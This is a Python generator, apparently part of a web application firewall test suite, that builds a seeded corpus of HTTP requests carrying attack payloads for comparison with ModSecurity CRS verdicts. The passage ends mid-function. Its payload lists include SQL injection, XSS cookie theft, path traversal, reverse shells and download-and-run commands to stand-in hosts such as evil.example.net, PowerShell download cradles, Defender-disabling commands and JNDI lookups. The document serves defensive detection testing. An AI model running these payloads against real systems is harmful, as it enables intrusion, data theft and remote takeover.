#!/usr/bin/env python3
"""Generate the CRS differential corpus, and (with --oracle) run it through
ModSecurity + CRS 3.3.4 to store the expected verdicts.

    python3 tests/e2e/crs_corpus/make_corpus.py            # requests.jsonl
    python3 tests/e2e/crs_corpus/make_corpus.py --oracle   # + modsec_pl1/pl2.jsonl, README table

requests.jsonl: one object per line,
    {"id": "sqli-0042", "class": "sqli-942", "where": "json", "benign": false, "raw": "..."}
`raw` is the whole request as text (CRLF line ends); it is sent encoded as
UTF-8, byte for byte (Content-Length counts the UTF-8 bytes).

The payloads are written here from each attack class's definition (what the
CRS rule family is about: traversal sequences and OS files for LFI, command
separators and commands for RCE, ...) and combined by a seeded generator:
shape x variant x encoding x placement. Nothing is copied from a public
payload list, the CRS regression tests, or tests/e2e/waf_corpus. The output
is deterministic (SEED below); changing anything here changes the corpus
and the stored verdicts must then be regenerated with --oracle.
"""

import base64
import json
import os
import random
import sys
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))      # tests/e2e: modsec.py, harness.py
SEED = 334_2024

# --------------------------------------------------------------------------
# request building

HOSTS = ["www.example.com", "shop.example.net", "api.example.org", "intranet.example.com"]

BROWSERS = [
    # (User-Agent, Accept, extra headers)
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36",
     "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,"
     "*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
     [("sec-ch-ua", '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"'),
      ("sec-ch-ua-mobile", "?0"), ("sec-ch-ua-platform", '"Windows"'),
      ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Dest", "document")]),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
     "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
     [("DNT", "1"), ("Upgrade-Insecure-Requests", "1")]),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.1 Safari/605.1.15",
     "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", []),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/16.6 Mobile/15E148 Safari/604.1",
     "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", []),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/119.0.0.0 Safari/537.36 Edg/119.0.2151.97",
     "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
     [("Sec-Fetch-Site", "none"), ("Sec-Fetch-User", "?1")]),
]

OLD_BROWSERS = [
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
     "text/html, application/xhtml+xml, */*",
     [("Accept-Language", "de-DE"), ("Accept-Charset", "ISO-8859-1,utf-8;q=0.7,*;q=0.7")]),
    ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 2.0.50727)",
     "image/gif, image/jpeg, image/pjpeg, application/x-shockwave-flash, */*",
     [("Accept-Language", "en-gb"), ("UA-CPU", "x86")]),
    ("Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.19) Gecko/2010031422 Firefox/3.0.19",
     "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
     [("Accept-Charset", "ISO-8859-1,utf-8;q=0.7,*;q=0.7"), ("Keep-Alive", "300")]),
    ("Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.02",
     "text/html, application/xml;q=0.9, application/xhtml+xml, image/png, image/webp, image/jpeg, "
     "image/gif, image/x-xbitmap, */*;q=0.1",
     [("Accept-Charset", "iso-8859-1, utf-8, utf-16, *;q=0.1"), ("Pragma", "no-cache")]),
]

LANGS = ["en-US,en;q=0.9", "fr-FR,fr;q=0.8,en-US;q=0.5,en;q=0.3", "de-DE,de;q=0.9,en;q=0.8",
         "es-ES,es;q=0.9", "ja,en-US;q=0.7,en;q=0.3", "pt-BR,pt;q=0.9,en-US;q=0.8"]

WORDS = ("account order invoice search product review comment profile settings basket "
         "checkout news archive report download gallery photo travel booking ticket help "
         "support library course lesson garden recipe kitchen music video forum topic").split()

PROSE = [
    "Please select the option that suits you best and update your details before Friday.",
    "I dropped my phone and the screen cracked; can someone tell me where to order a new one?",
    "Our union meeting is on Tuesday, so please drop by the office if you can.",
    "Insert the tab into the slot, then delete the old file from the folder.",
    "My cat likes to sleep all day and then run around at night like a wild thing.",
    "We went to the table by the window and ordered the fish and a glass of wine.",
    "The script for the school play was updated, and the cast will rehearse where the hall is free.",
    "Set the timer to 5 minutes, or until the sauce is thick enough.",
    "Is it true that 1 + 1 = 2, or are there exceptions in modular arithmetic?",
    "He said: \"it's not working\" - and then it worked, of course.",
    "Bring water, sunscreen & a hat; the hike takes 3-4 hours (with breaks).",
    "Ce produit est très pratique, je le recommande à tous mes collègues !",
    "Die Lieferung kam pünktlich, aber die Verpackung war beschädigt.",
    "Can you echo back what the customer said, then grep the notes for the order number?",
    "The shell of the old house is solid; the roof needs work, though.",
    "Java and Python are both fine choices for a first programming course.",
    "To exit the menu press Escape, then select Save from the File menu.",
    "She wrote 'hello world' on the whiteboard and everybody laughed.",
]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.out = []
        self.counters = {}

    def pick(self, seq):
        return seq[self.r.randrange(len(seq))]

    # -- header profiles --

    def browser(self, old=False):
        ua, acc, extra = self.pick(OLD_BROWSERS if old else BROWSERS)
        h = [("User-Agent", ua), ("Accept", acc)]
        if not any(k == "Accept-Language" for k, _ in extra):
            h.append(("Accept-Language", self.pick(LANGS)))
        h.append(("Accept-Encoding", self.pick(["gzip, deflate, br", "gzip, deflate", "gzip"])))
        h += extra
        if self.r.random() < 0.5:
            h.append(("Referer", "https://%s/%s" % (self.pick(HOSTS), self.pick(WORDS))))
        h.append(("Connection", self.pick(["keep-alive", "close", "keep-alive"])))
        return h

    def api_client(self):
        ua = self.pick(["okhttp/4.12.0", "MyShopApp/5.3.1 (Android 13; Pixel 7)",
                        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/120.0.0.0 Safari/537.36", "axios/1.6.2", "Dalvik/2.1.0 (Linux; U; Android 12)"])
        return [("User-Agent", ua), ("Accept", "application/json, text/plain, */*"),
                ("Accept-Language", self.pick(LANGS)), ("Accept-Encoding", "gzip")]

    def cookies(self):
        c = ["_ga=GA1.2.%d.%d" % (self.r.randrange(10**9, 2 * 10**9), self.r.randrange(1600000000, 1700000000)),
             "_gid=GA1.2.%d.%d" % (self.r.randrange(10**8, 10**9), self.r.randrange(1600000000, 1700000000))]
        if self.r.random() < 0.5:
            c.append("sessionid=%s" % self.hexid(32))
        if self.r.random() < 0.3:
            c.append("lang=%s" % self.pick(["en", "fr", "de", "es"]))
        return "; ".join(c)

    def hexid(self, n):
        return "".join(self.pick("0123456789abcdef") for _ in range(n))

    def token(self, n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
        return "".join(self.pick(alphabet) for _ in range(n))

    # -- raw requests --

    def raw(self, method, target, headers, body=None, host=None, version="HTTP/1.1",
            content_length=True):
        if isinstance(body, str):
            body = body.encode("utf-8")
        lines = ["%s %s %s" % (method, target, version)]
        if host is not False:
            lines.append("Host: %s" % (host if host is not None else self.pick(HOSTS)))
        lines += ["%s: %s" % (k, v) for k, v in headers]
        if body is not None and content_length:
            lines.append("Content-Length: %d" % len(body))
        head = "\r\n".join(lines) + "\r\n\r\n"
        return head + (body.decode("utf-8") if body is not None else "")

    def add(self, cls, where, benign, raw):
        short = cls.split("-")[0] if not benign else cls
        n = self.counters.get(short, 0) + 1
        self.counters[short] = n
        self.out.append({"id": "%s-%04d" % (short, n), "class": cls, "where": where,
                         "benign": benign, "raw": raw})

    # -- placements of an attack string --

    def place(self, cls, payload, where, name=None, path=None):
        """One request carrying PAYLOAD (a decoded string) in WHERE."""
        r = self.r
        name = name or self.pick(["q", "id", "search", "page", "name", "item", "comment", "file",
                                  "redirect", "cmd", "data", "filter", "sort", "lang"])
        path = path or "/" + self.pick(WORDS) + self.pick(["", "/", ".php", ".jsp", "/list", "/view"])
        h = self.browser()
        if where in ("ua", "header", "referer") and ("\n" in payload or "\r" in payload):
            where = "query"     # a raw line break would end the header
        if where == "query":
            extra = ""
            if r.random() < 0.4:
                extra = "&%s=%d" % (self.pick(["page", "limit", "offset", "ts"]), r.randrange(1, 999))
            enc = urllib.parse.quote(payload, safe="") if r.random() < 0.7 else \
                urllib.parse.quote(payload, safe="/:=(),'*!$;@~<>\"`|{}[]\\^")
            raw = self.raw("GET", "%s?%s=%s%s" % (path, name, enc, extra), h)
        elif where == "form":
            body = "%s=%s" % (name, urllib.parse.quote_plus(payload))
            if r.random() < 0.5:
                body = "csrf_token=%s&%s&submit=Send" % (self.token(24), body)
            raw = self.raw("POST", path, h + [("Content-Type", "application/x-www-form-urlencoded")], body)
        elif where == "json":
            doc = {name: payload}
            if r.random() < 0.5:
                doc = {"user": {"id": r.randrange(1, 10**6), "prefs": {name: payload}}, "v": 2}
            elif r.random() < 0.3:
                doc = {"items": [{"sku": "A-%d" % r.randrange(1000), name: payload}]}
            raw = self.raw("POST", "/api/v1/" + self.pick(WORDS),
                           self.api_client() + [("Content-Type", self.pick(["application/json",
                                                                            "application/json; charset=utf-8"]))],
                           json.dumps(doc, ensure_ascii=False))
        elif where == "multipart":
            raw = self.multipart(path, h, [(name, None, None, payload)])
        elif where == "filename":
            raw = self.multipart(path, h, [("title", None, None, "holiday"),
                                           ("upload", payload, "application/octet-stream", "GIF89a....")])
        elif where == "cookie":
            val = payload.replace("%", "%25").replace(";", "%3B").replace(" ", "%20") \
                .replace(",", "%2C").replace('"', "%22").replace("\\", "%5C") \
                .replace("\r", "%0D").replace("\n", "%0A")
            raw = self.raw("GET", path, h + [("Cookie", "%s; %s=%s" % (self.cookies(), name, val))])
        elif where == "ua":
            h = [(k, v) for k, v in h if k != "User-Agent"] + [("User-Agent", payload)]
            raw = self.raw("GET", path, h)
        elif where == "referer":
            h = [(k, v) for k, v in h if k != "Referer"] + [
                ("Referer", "https://%s/?%s=%s" % (self.pick(HOSTS), name, urllib.parse.quote(payload, safe="")))]
            raw = self.raw("GET", path, h)
        elif where == "header":
            hn = self.pick(["X-Forwarded-Host", "X-Custom-Data", "X-Api-Version", "X-Requested-With"])
            raw = self.raw("GET", path, h + [(hn, payload)])
        elif where == "path":
            raw = self.raw("GET", payload if payload.startswith("/") else "/" + payload, h)
        else:
            raise ValueError(where)
        self.add(cls, where, False, raw)

    def multipart(self, path, h, parts, boundary=None):
        """PARTS: [(field name, filename or None, content type or None, value)]."""
        b = boundary or "----WebKitFormBoundary" + self.token(16)
        body = ""
        for name, fn, ct, value in parts:
            body += "--%s\r\n" % b
            if fn is None:
                body += 'Content-Disposition: form-data; name="%s"\r\n' % name
            else:
                body += 'Content-Disposition: form-data; name="%s"; filename="%s"\r\n' % (name, fn)
            if ct:
                body += "Content-Type: %s\r\n" % ct
            body += "\r\n%s\r\n" % value
        body += "--%s--\r\n" % b
        return self.raw("POST", path, h + [("Content-Type", "multipart/form-data; boundary=%s" % b)], body)

    def spread(self, cls, payloads, wheres, n, names=None):
        """N requests of class CLS: payloads drawn from PAYLOADS (a list),
        placements cycling through WHERES."""
        pool = list(payloads)
        self.r.shuffle(pool)
        for i in range(n):
            p = pool[i % len(pool)]
            where = wheres[i % len(wheres)] if i < len(wheres) else self.pick(wheres)
            self.place(cls, p, where, name=self.pick(names) if names else None)


# --------------------------------------------------------------------------
# attack payload families (combinatorial)

def fill(n, make):
    """Up to N distinct strings from MAKE() (bounded: a family smaller than
    N gives what it has)."""
    out = set()
    for _ in range(n * 40):
        if len(out) >= n:
            break
        out.add(make())
    return sorted(out)


def wrap(g, s):
    """Context around an injected expression: as a bare value, closing a
    string, concatenated into one, or inside a template."""
    return g.pick([s, s, "'+" + s + "+'", '";' + s + "//", "x');" + s + "//", "${" + s + "}", "1;" + s])


def cases(g, s):
    """Random keyword casing."""
    r = g.r.random()
    if r < 0.5:
        return s
    if r < 0.75:
        return s.upper()
    return "".join(c.upper() if g.r.random() < 0.5 else c.lower() for c in s)


def sqli(g, n):
    opens = ["'", '"', "')", "'))", "", "1'", "1\"", "x')", "0", "-1", "1)"]
    ws = [" ", " ", "/**/", "\t", "\n", "  "]
    ends = ["--", "-- -", "#", "/*", ";--", "", ""]
    tauts = ["or 1=1", "OR 'a'='a'", "or true", "|| 1=1", "or 2>1", "or 'x' like 'x'",
             "or 3 between 1 and 5", "or not false", "and 1=0 or 1=1", "or 1 in (1,2)",
             "or username is not null", "or 0x41=0x41"]
    cols = ["null,null", "1,2,3", "username,password from users", "@@version,2",
            "table_name,2 from information_schema.tables", "group_concat(column_name) from information_schema.columns",
            "user(),database()", "name,pass from mysql.user", "sqlite_version()", "banner from v$version"]
    stacked = ["; drop table {t}", "; shutdown", "; exec master..xp_cmdshell 'whoami'",
               "; insert into {t} values(1,'x')", "; update {t} set role='admin' where id=1",
               "; declare @q varchar(99) set @q='x' exec(@q)", "; select pg_sleep(5)"]
    timing = ["and sleep({n})", "or benchmark({b},md5(1))", "; waitfor delay '0:0:{n}'",
              "and pg_sleep({n})", "and (select {n} from (select(sleep({n})))x)",
              "and if(1=1,sleep({n}),0)", "or randomblob({b})"]
    funcs = ["and extractvalue(1,concat(0x7e,version()))", "and updatexml(1,concat(0x7e,user()),1)",
             "and ascii(substring(user(),1,1))>64", "union select load_file('/etc/passwd')",
             "into outfile '/var/www/html/x.php'", "having 1=1", "order by {n}",
             "group by 1 having count(*)>0", "and 1=convert(int,@@version)", "and exists(select * from users)",
             "and (select count(*) from sysobjects)>0", "procedure analyse()", "and char(65)||char(66)='AB'"]
    tables = ["users", "accounts", "orders", "admin", "members"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        kind = g.r.randrange(5)
        w = g.pick(ws)
        if kind == 0:
            body = g.pick(tauts)
        elif kind == 1:
            body = cases(g, "union") + g.pick([" ", " all ", "/**/", " distinct "]) + cases(g, "select") + " " + g.pick(cols)
        elif kind == 2:
            body = g.pick(stacked).format(t=g.pick(tables))
        elif kind == 3:
            body = g.pick(timing).format(n=g.r.randrange(2, 20), b=g.r.randrange(10**5, 10**7))
        else:
            body = g.pick(funcs).format(n=g.r.randrange(2, 30))
        s = g.pick(opens) + (w if g.r.random() < 0.8 else "") + body.replace(" ", w) + g.pick(ends)
        out.add(s)
    return sorted(out)


def xss(g, n):
    js = ["alert(1)", "alert`1`", "prompt(document.domain)", "confirm(1)", "eval(atob('YWxlcnQoMSk='))",
          "document.location='//evil.example/?'+document.cookie", "fetch('//evil.example/c?'+document.cookie)",
          "top['al'+'ert'](1)", "window.onerror=alert;throw 1", "String.fromCharCode(88,83,83)",
          "new Image().src='//evil.example/'+localStorage.token", "self[`alert`](9)"]
    shapes = ["<script>{j}</script>", "<ScRiPt src=//evil.example/x.js></script>", "<img src=x onerror={j}>",
              "<svg/onload={j}>", "<body onload={j}>", "<iframe src=\"javascript:{j}\"></iframe>",
              "<a href=\"javascript:{j}\">click</a>", "<details open ontoggle={j}>", "<input autofocus onfocus={j}>",
              "<div style=\"background:url(javascript:{j})\">", "\"><script>{j}</script>", "'><img src=1 onerror={j}>",
              "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
              "<embed src=\"javascript:{j}\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{j}\">",
              "<x onmouseover={j}>hover me", "<marquee onstart={j}>", "<video><source onerror=\"{j}\"></video>",
              "<style>@import 'http://evil.example/x.css';</style>", "<div style=\"width:expression({j})\">",
              "<a href=\"vbscript:msgbox(1)\">x</a>", "<form action=\"javascript:{j}\"><input type=submit>",
              "<isindex action=\"javascript:{j}\" type=image>", "<base href=\"//evil.example/\">",
              "<link rel=import href=\"//evil.example/x\">", "javascript:{j}", "<svg><animate onbegin={j} attributeName=x>",
              "<applet code=\"x.class\">", "<xss id=x tabindex=1 onfocusin={j}></xss>", "';{j};//",
              "<img src=`x` onerror=\"{j}\">", "<math><maction actiontype=statusline xlink:href=javascript:{j}>x"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        s = g.pick(shapes).format(j=g.pick(js))
        if g.r.random() < 0.15:
            s = s.upper()
        if g.r.random() < 0.15:
            s = "Hello " + s
        out.add(s)
    return sorted(out)


def lfi(g, n):
    ups = ["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%c0%ae%c0%ae/", "....//", "..;/",
           "..%5c", ".%2e/", "%2e%2e%5c", "..%c0%af", "..%u2215"]
    targets = ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline",
               "windows/win.ini", "boot.ini", "winnt/system32/drivers/etc/hosts", "var/log/apache2/access.log",
               "root/.ssh/id_rsa", "home/user/.bash_history", "etc/issue", "WEB-INF/web.xml",
               "usr/local/etc/php.ini", "etc/mysql/my.cnf", "proc/version", "etc/group", "windows/system.ini"]
    ends = ["", "", "%00", "%00.jpg", "?", "%00.html"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        k = g.r.random()
        if k < 0.75:
            s = g.pick(ups) * g.r.randrange(2, 9) + g.pick(targets) + g.pick(ends)
        elif k < 0.9:
            s = g.pick(["/", "file:///", "c:\\", "C:/", "\\\\?\\c:\\"]) + g.pick(targets).replace(
                "/", "\\" if g.r.random() < 0.3 else "/")
        else:
            s = g.pick(["./", ""]) + g.pick(["images/", "static/", "lang/"]) + g.pick(ups) * 3 + g.pick(targets)
        out.add(s)
    return sorted(out)


def restricted_paths(g, n):
    files = [".git/config", ".git/HEAD", ".env", ".htaccess", ".htpasswd", "web.config", ".svn/entries",
             ".DS_Store", ".aws/credentials", ".bash_history", "wp-config.php.bak", ".ssh/authorized_keys",
             "server-status", ".idea/workspace.xml", "config/database.yml", ".npmrc", "WEB-INF/web.xml",
             "backup.sql", "db.mdb", "site.old", "web.config.bak", "app.log", "php.ini"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        out.add("/" + g.pick(["", "app/", "static/", "shop/", "old/"]) + g.pick(files))
    return sorted(out)


def rfi(g, n):
    hosts = ["%d.%d.%d.%d" % (g.r.randrange(11, 223), g.r.randrange(256), g.r.randrange(256), g.r.randrange(1, 255))
             for _ in range(6)] + ["evil.example.net", "cdn-payloads.example.org", "pastebin.example"]
    paths = ["/shell.txt", "/x.php", "/r57.txt", "/inc/c.txt", "/a.jpg", "/id.txt", "/cmd.gif", "/", "/payload"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        url = g.pick(["http", "https", "ftp", "ftps", "HTTP"]) + "://" + g.pick(hosts) + g.pick(paths)
        url += g.pick(["", "", "?", "??", "%3f", "#", "?cmd=id"])
        k = g.r.random()
        if k < 0.2:
            url = g.pick(["include(", "require_once(", "mosConfig_absolute_path=", "_CONF[path]=",
                          "GALLERY_BASEDIR=", "path[docroot]=", "appserv_root="]) + url
        out.add(url)
    return sorted(out)


SEPS = [";", "|", "||", "&&", "&", "\n", "`", "$(", "\r\n", "%0a"]


def rce_unix(g, n):
    host = ["evil.example.net", "203.0.113.7", "198.51.100.23"]
    cmds = ["cat /etc/passwd", "id", "uname -a", "whoami", "ls -la /", "wget http://{h}/x.sh -O /tmp/x",
            "curl -s http://{h}/x | sh", "nc -e /bin/sh {h} 4444", "bash -i >& /dev/tcp/{h}/4444 0>&1",
            "python -c 'import os;os.system(\"id\")'", "perl -e 'exec \"/bin/sh\"'", "rm -rf /tmp/*",
            "chmod 777 /tmp/x", "echo aWQ=|base64 -d|sh", "/bin/sh -c id", "sleep 10", "ping -c 3 {h}",
            "nslookup {h}", "find / -perm -4000", "tail /var/log/auth.log", "ps aux", "ifconfig",
            "cat$IFS/etc/passwd", "c''at /etc/passwd", "/???/c?t /etc/passwd", "w\\ho\\ami",
            "{cat,/etc/passwd}", "uname${IFS}-a", "crontab -l", "awk 'BEGIN{system(\"id\")}'",
            "telnet {h} 23", "tftp -i {h} get x", "busybox nc {h} 9", "/usr/bin/env", "sh -c 'env'"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        cmd = g.pick(cmds).replace("{h}", g.pick(host))
        sep = g.pick(SEPS)
        pre = g.pick(["", "127.0.0.1", "foo", "1", "test.txt", "x@example.com"])
        if sep == "`":
            s = "%s`%s`" % (pre, cmd)
        elif sep == "$(":
            s = "%s$(%s)" % (pre, cmd)
        elif sep == "%0a":
            s = pre + "\n" + cmd
        else:
            s = pre + sep + g.pick(["", " "]) + cmd
        out.add(s)
    shock = ["() { :; }; /bin/bash -c 'id'", "() { :;}; echo; /usr/bin/id", "() { ignored; }; /bin/cat /etc/passwd",
             "() { x;}; wget http://evil.example.net/s -O /tmp/s"]
    return sorted(out), shock


def rce_windows(g, n):
    cmds = ["dir c:\\", "type c:\\windows\\win.ini", "net user hacker P4ss /add", "cmd.exe /c whoami",
            "ipconfig /all", "systeminfo", "tasklist", "certutil -urlcache -split -f http://evil.example.net/x.exe x.exe",
            "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion", "wmic process list brief",
            "%COMSPEC% /c dir", "ping -n 5 203.0.113.7", "findstr /s password *.config", "del /f /q c:\\temp\\x",
            "bitsadmin /transfer j http://evil.example.net/x c:\\x.exe", "net localgroup administrators",
            "cmd /c \"echo x > c:\\inetpub\\wwwroot\\x.asp\"", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
            "mshta http://evil.example.net/x.hta", "schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
            "copy \\\\evil.example.net\\s\\x.exe c:\\", "nslookup evil.example.net", "whoami /priv", "cscript x.vbs"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        s = g.pick(["", "127.0.0.1", "x", "report.doc"]) + g.pick(["&", "|", "&&", "||", "\r\n", "\n"]) + \
            g.pick(["", " "]) + g.pick(cmds)
        out.add(s)
    return sorted(out)


def rce_powershell(g, n):
    b64 = base64.b64encode("IEX (iwr http://evil.example.net/a)".encode("utf-16-le")).decode()
    cmds = ["powershell -enc " + b64, "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
            "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a')\"",
            "Invoke-WebRequest -Uri http://evil.example.net/x -OutFile x.exe", "Invoke-Expression $payload",
            "Start-Process cmd.exe -ArgumentList '/c whoami'", "Get-ChildItem C:\\Users -Recurse -Filter *.kdbx",
            "$env:USERNAME", "[System.Convert]::FromBase64String('aWQ=')", "Set-MpPreference -DisableRealtimeMonitoring $true",
            "Get-Content C:\\secret.txt", "Get-WmiObject Win32_Process", "New-Object System.Net.Sockets.TCPClient('203.0.113.7',443)",
            "Add-MpPreference -ExclusionPath C:\\", "iex(iwr -useb evil.example.net/p)", "pwsh -c Get-Process",
            "Remove-Item -Recurse -Force C:\\inetpub", "Invoke-Command -ScriptBlock {whoami}",
            "Get-LocalUser | Select Name", "Stop-Service -Name WinDefend"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        s = g.pick(["", "x", "1"]) + g.pick(["; ", "| ", "& ", "&& ", "\n"]) + g.pick(cmds)
        if g.r.random() < 0.3:
            s = g.pick(cmds)
        out.add(s)
    return sorted(out)


def php(g, n):
    codes = ["system('id');", "echo shell_exec($_GET['c']);", "passthru('ls -la');", "eval($_POST['x']);",
             "assert($_REQUEST['a']);", "include($_GET['f']);", "preg_replace('/.*/e','system(\"id\")','');",
             "file_put_contents('x.php',base64_decode('PD9waHA='));", "phpinfo();", "create_function('', $_GET['c']);",
             "$f=$_GET['f'];$f();", "call_user_func('system','id');", "proc_open('id',array(),$p);",
             "popen('id','r');", "fsockopen('203.0.113.7',4444);", "exec('whoami',$o);print_r($o);",
             "highlight_file('/etc/passwd');", "move_uploaded_file($_FILES['f']['tmp_name'],'s.php');"]
    opens = ["<?php {c} ?>", "<?= {c} ?>", "<? {c} ?>", "<?php\n{c}", "{c}"]
    wrappers = ["php://filter/convert.base64-encode/resource=index.php", "php://input", "phar://uploads/x.jpg/shell",
                "zip://uploads/x.zip#shell.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
                "expect://id", "glob://*", "php://fd/3", "php://filter/read=string.rot13/resource=config.php",
                "compress.zlib://uploads/x.gz"]
    directives = ["allow_url_include=On", "auto_prepend_file=php://input", "disable_functions=", "safe_mode=Off",
                  "open_basedir=/", "-d allow_url_include=1 -d auto_prepend_file=php://input",
                  "register_globals=1", "display_errors=1"]
    variables = ["$_SERVER['HTTP_USER_AGENT']", "$_COOKIE['x']", "$GLOBALS['cfg']", "$_ENV", "$HTTP_RAW_POST_DATA",
                 "$_SESSION['admin']=1", "$_FILES", "${_GET}[x]"]
    objs = ['O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}', 'a:2:{i:0;O:4:"Evil":0:{}i:1;s:1:"x";}',
            'O:+4:"User":2:{s:4:"name";s:5:"admin";s:5:"admin";b:1;}', 'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}']
    varfuncs = ["$x='sys'.'tem';$x('id');", "${'_GET'}['a'](${'_GET'}['b']);", "(system)('id');",
                "$a=strrev('metsys');$a('ls');", "array_map('system',array('id'));", "@$_GET['c']($_GET['d']);"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        k = g.r.randrange(6)
        if k == 0:
            s = g.pick(opens).format(c=g.pick(codes))
        elif k == 1:
            s = g.pick(wrappers)
        elif k == 2:
            s = g.pick(directives)
        elif k == 3:
            s = g.pick(variables) + g.pick(["", ";", " = 1"])
        elif k == 4:
            s = g.pick(objs)
        else:
            s = g.pick(varfuncs)
        out.add(s)
    uploads = ["shell.php", "x.php5", "x.phtml", "image.php.jpg", ".user.ini", "x.phar", "cmd.PHP", "a.php7",
               "up.pht", "y.php.", "avatar.php%00.png", ".htaccess"]
    return sorted(out), uploads


def nodejs(g, n):
    shapes = ["require('child_process').exec('{c}')", "process.mainModule.require('child_process').execSync('{c}')",
              "_$$ND_FUNC$$_function(){{require('child_process').exec('{c}')}}()",
              "require(\"fs\").readFileSync(\"/etc/passwd\")", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('{c}')",
              "eval(String.fromCharCode(114,101,113,117,105,114,101))", "new Function('return process')().exit()",
              "res.end(require('fs').readdirSync('.').toString())", "global.process.kill(process.pid)",
              "child_process.spawn('{c}')", "require('vm').runInNewContext('{c}')",
              "{{\"rce\":\"_$$ND_FUNC$$_function (){{require('child_process').exec('{c}', function(e,o){{}})}}()\"}}",
              "process.binding('spawn_sync').spawn({{file:'{c}'}})"]
    cmds = ["id", "ls /", "cat /etc/passwd", "curl evil.example.net", "rm -rf /tmp/x", "whoami"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        out.add(wrap(g, g.pick(shapes).format(c=g.pick(cmds))))
    return sorted(out)


def java(g, n):
    shapes = ["java.lang.Runtime.getRuntime().exec(\"{c}\")", "new java.lang.ProcessBuilder(\"{c}\").start()",
              "${{jndi:ldap://evil.example.net:1389/a}}", "${{${{lower:j}}ndi:${{lower:r}}mi://evil.example.net/x}}",
              "${{jndi:dns://evil.example.net/x}}", "${{jndi:${{env:NOPE:-l}}dap://203.0.113.7/o}}",
              "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
              "%{{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('{c}'))}}",
              "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ",
              "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap", "javax.script.ScriptEngineManager().getEngineByName('js')",
              "java.lang.Class.forName(\"java.lang.Runtime\")", "org.apache.commons.collections.functors.InvokerTransformer",
              "#{{T(java.lang.Runtime).getRuntime().exec('{c}')}}", "xwork.MethodAccessor.denyMethodExecution=false",
              "${{T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('{c}').getInputStream())}}",
              "java.io.FileInputStream(\"/etc/passwd\")", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
              "<java.lang.ProcessBuilder><command><string>{c}</string></command></java.lang.ProcessBuilder>",
              "java.lang.System.getProperty(\"user.home\")"]
    cmds = ["id", "calc.exe", "touch /tmp/pwn", "whoami", "nslookup evil.example.net"]
    out = set()
    for _attempt in range(n * 40):
        if len(out) >= n:
            break
        out.add(wrap(g, g.pick(shapes).format(c=g.pick(cmds))))
    return sorted(out)


def session(g, n):
    names = ["PHPSESSID", "JSESSIONID", "ASPSESSIONID", "sessionid", "sid", "ASP.NET_SessionId", "session_id", "jsessionid"]
    out = []
    for i in range(n):
        k = i % 3
        sid = g.hexid(26)
        if k == 0:
